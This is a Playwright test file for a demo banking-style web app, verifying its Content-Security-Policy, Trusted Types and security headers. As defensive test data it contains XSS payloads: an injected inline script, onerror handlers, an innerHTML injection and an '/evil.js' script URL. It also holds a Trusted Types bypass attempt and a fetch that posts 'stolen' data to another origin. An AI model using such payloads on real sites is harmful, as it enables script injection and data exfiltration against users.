import { expect, type Page, type Response } from '@playwright/test'
import { demoOrigin, sandboxOrigin } from '../playwright.config.ts'
import { signInThroughBackend } from './bffSupport.ts'
import { test } from './cspViolations.ts'
import { press, signInQuickly, signInWithForm, signOut, storedSession } from './support.ts'

/** The Content-Security-Policy's directives, each with its sources. */
function directives(policy: string | undefined): Record<string, string[]> {
  const entries = (policy ?? '')
    .split(';')
    .map((directive) => directive.trim().split(/\s+/))
    .filter(([name]) => name)
    .map(([name, ...sources]) => [name, sources])
  return Object.fromEntries(entries)
}

/** What every page and script of the app is served with. */
function expectSecurityHeaders(response: Pick<Response, 'headers'> | null): void {
  const headers = response?.headers() ?? {}
  expect(directives(headers['content-security-policy'])).toMatchObject({
    'default-src': ["'self'"],
    // No inline script and no eval: neither 'unsafe-inline', 'unsafe-eval' nor a nonce or hash.
    'script-src': ["'self'"],
    'style-src': ["'self'"],
    'connect-src': ["'self'", sandboxOrigin],
    'object-src': ["'none'"],
    'base-uri': ["'none'"],
    'frame-ancestors': ["'none'"],
    'require-trusted-types-for': ["'script'"],
    'trusted-types': ["'none'"],
  })
  expect(headers).toMatchObject({
    'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff',
    'cross-origin-opener-policy': 'same-origin-allow-popups',
  })
}

/** The app's HTML documents the page loads from now on. */
function appDocuments(page: Page): Response[] {
  const documents: Response[] = []
  page.on('response', (response) => {
    const request = response.request()
    const isAppPage = response.url().startsWith(demoOrigin) && response.headers()['content-type'] === 'text/html'
    if (request.resourceType() === 'document' && isAppPage) documents.push(response)
  })
  return documents
}

test('the home page, the callback page and the scripts carry the policy; no request repeats the callback URL and its code', async ({
  page,
}) => {
  const referers: Promise<string | null>[] = []
  page.on('request', (request) => referers.push(request.headerValue('referer')))
  expectSecurityHeaders(await page.goto('/'))
  const script = await page.locator('script[src]').first().getAttribute('src')
  expectSecurityHeaders(await page.request.get(script ?? ''))

  const callbackPage = page.waitForResponse(
    (response) => response.request().isNavigationRequest() && new URL(response.url()).pathname === '/callback',
  )
  await press(page.getByRole('button', { name: 'Sign in', exact: true }))
  await signInWithForm(page, 'alice', 'alice-pass')
  await press(page.getByRole('button', { name: 'Allow' }))
  const callback = await callbackPage
  expect(new URL(callback.url()).searchParams.has('code')).toBe(true)
  expectSecurityHeaders(callback)
  await expect(page.getByTestId('user-name')).toHaveText('Alice Adler')

  // No request of the app's pages (the callback's scripts, styles, token request…) named the page in a Referer.
  const sent = await Promise.all(referers)
  expect(sent.filter((referer) => referer?.startsWith(demoOrigin))).toEqual([])
})

test('sign-in, refresh, the SCA dialog, pay by bank, the backend page and sign-out run under the policy without a violation', async ({
  page,
  context,
  cspViolations,
}) => {
  const documents = appDocuments(page)
  await signInQuickly(page, context)
  const first = await storedSession(page, 'demo-spa')
  // Access tokens live 5 s in the e2e run: the refresh comes by itself.
  await expect
    .poll(async () => (await storedSession(page, 'demo-spa'))?.accessToken, { timeout: 15_000 })
    .not.toBe(first?.accessToken)

  await page.goto('/wallet')
  await press(page.getByRole('button', { name: 'Send money' }))
  const dialog = page.getByRole('dialog', { name: 'Confirm it’s you' })
  await dialog.getByLabel('Enter your PIN').fill('1234')
  await press(dialog.getByRole('button', { name: 'Verify' }))
  await expect(page.getByTestId('transfer-result')).toHaveText(/Transfer COMPLETED/)

  await page.goto('/pay')
  await press(page.getByRole('button', { name: 'Create payment intent' }))
  await expect(page.getByTestId('intent-status')).toHaveText('CREATED')
  await press(page.getByRole('button', { name: 'Authorize with your bank' }))
  await expect(page.getByTestId('intent-status')).toHaveText('CONSUMED')

  await signInThroughBackend(page, context)

  await page.goto('/')
  await signOut(page)

  expect(cspViolations).toEqual([])
  // Every page of the tour, callbacks included, was under the policy.
  expect(documents.map((document) => new URL(document.url()).pathname)).toEqual(
    expect.arrayContaining(['/', '/callback', '/wallet', '/pay', '/pay/callback', '/backend']),
  )
  for (const document of documents) expectSecurityHeaders(document)
})

test('markup the server did not send never runs: inline scripts and inline event handlers are refused', async ({
  page,
  cspViolations,
}) => {
  // As an injection that reached the HTML would: the page keeps its real headers.
  await page.route('/', async (route) => {
    const response = await route.fetch()
    const injected =
      '<script>window.inlineScriptRan = true</script><img src="/" onerror="window.inlineHandlerRan = true">'
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injected}</body>`) })
  })
  await page.goto('/')
  // The app's own script still runs.
  await expect(page.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible()
  expect(await page.evaluate(() => Object.keys(window).filter((key) => key.endsWith('Ran')))).toEqual([])
  await expect
    .poll(() =>
      cspViolations
        .filter((violation) => violation.seenIn === 'event')
        .map(({ directive, blocked }) => [directive, blocked]),
    )
    .toEqual(
      expect.arrayContaining([
        ['script-src-elem', 'inline'],
        ['script-src-attr', 'inline'],
      ]),
    )
  cspViolations.splice(0)
})

/**
 * What a script that got into the page would try, the directive that stops it, and how the attempt
 * tells it took effect (a refused one throws or changes nothing).
 */
const attempts: { name: string; directive: string; attempt: () => boolean | Promise<boolean> }[] = [
  // Trusted Types refuses the string before script-src's own check for eval would.
  // biome-ignore lint/security/noGlobalEval: the attempt the policy must refuse.
  { name: 'eval', directive: 'require-trusted-types-for', attempt: () => eval('1 + 1') === 2 },
  { name: 'new Function', directive: 'require-trusted-types-for', attempt: () => new Function('return 1')() === 1 },
  {
    name: 'a string assigned to innerHTML',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.innerHTML = '<img src="/" onerror="alert(1)">'
      return document.body.querySelector('img[onerror]') !== null
    },
  },
  {
    name: 'a string as a script URL',
    directive: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script')
      script.src = '/evil.js'
      return script.src !== ''
    },
  },
  {
    name: 'a Trusted Types policy of its own',
    directive: 'trusted-types',
    attempt: () => {
      const { trustedTypes } = window as { trustedTypes?: { createPolicy: (name: string, rules: object) => unknown } }
      // A browser without Trusted Types enforces none of them.
      return trustedTypes
        ? trustedTypes.createPolicy('bypass', { createHTML: (input: string) => input }) !== null
        : true
    },
  },
  {
    name: 'a style attribute',
    directive: 'style-src-attr',
    attempt: () => {
      document.body.setAttribute('style', 'display: none')
      return getComputedStyle(document.body).display === 'none'
    },
  },
  {
    name: 'a request to another origin',
    directive: 'connect-src',
    attempt: async () => (await fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'stolen' })).ok,
  },
]

test('a script in the page cannot turn strings into code or markup, restyle the page, or send data elsewhere', async ({
  page,
  cspViolations,
}) => {
  await page.goto('/')
  await expect(page.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible()
  for (const { name, directive, attempt } of attempts) {
    await test.step(name, async () => {
      // From a timer, as the page's own code runs: code evaluated by the test itself may eval.
      const outcome = await page.evaluate(`new Promise((resolve) => setTimeout(async () => {
        try { resolve((await (${attempt.toString()})()) ? 'took effect' : 'refused') } catch (error) { resolve(error.name) }
      }))`)
      expect(outcome).not.toBe('took effect')
      await expect
        .poll(() =>
          cspViolations.filter((violation) => violation.seenIn === 'event').map((violation) => violation.directive),
        )
        .toContain(directive)
      cspViolations.splice(0)
    })
  }
  await expect(page.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible()
})
